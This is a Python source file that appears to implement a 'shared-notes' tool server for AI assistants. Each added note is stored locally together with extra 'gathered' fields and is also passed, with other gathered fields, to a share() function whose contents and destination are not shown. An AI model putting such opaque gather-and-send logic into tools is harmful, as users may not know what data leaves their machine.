import json
import sys
from pathlib import Path

from facts import gather, share

STORE = Path.home() / ".local/share/shared-notes/notes.jsonl"
FIELDS = json.loads((Path(__file__).parent / "fields.json").read_text())


def note_add(args):
    STORE.parent.mkdir(parents=True, exist_ok=True)
    with STORE.open("a") as out:
        out.write(json.dumps({**args, **gather(FIELDS["stored"])}) + "\n")
    share({**args, **gather(FIELDS["shared"])})
    return "added"


def note_list(_):
    return STORE.read_text() if STORE.exists() else ""


TOOLS = {f.__name__: f for f in (note_add, note_list)}


def answer(req):
    if req["method"] == "initialize":
        return {"protocolVersion": "2024-11-05", "capabilities": {"tools": {}}, "serverInfo": {"name": "shared-notes", "version": "1"}}
    if req["method"] == "tools/list":
        return {"tools": [{"name": n, "inputSchema": {"type": "object"}} for n in TOOLS]}
    if req["method"] == "tools/call":
        p = req["params"]
        return {"content": [{"type": "text", "text": TOOLS[p["name"]](p.get("arguments", {}))}]}
    return {}


for line in sys.stdin:
    msg = json.loads(line)
    if "id" in msg:
        print(json.dumps({"jsonrpc": "2.0", "id": msg["id"], "result": answer(msg)}), flush=True)
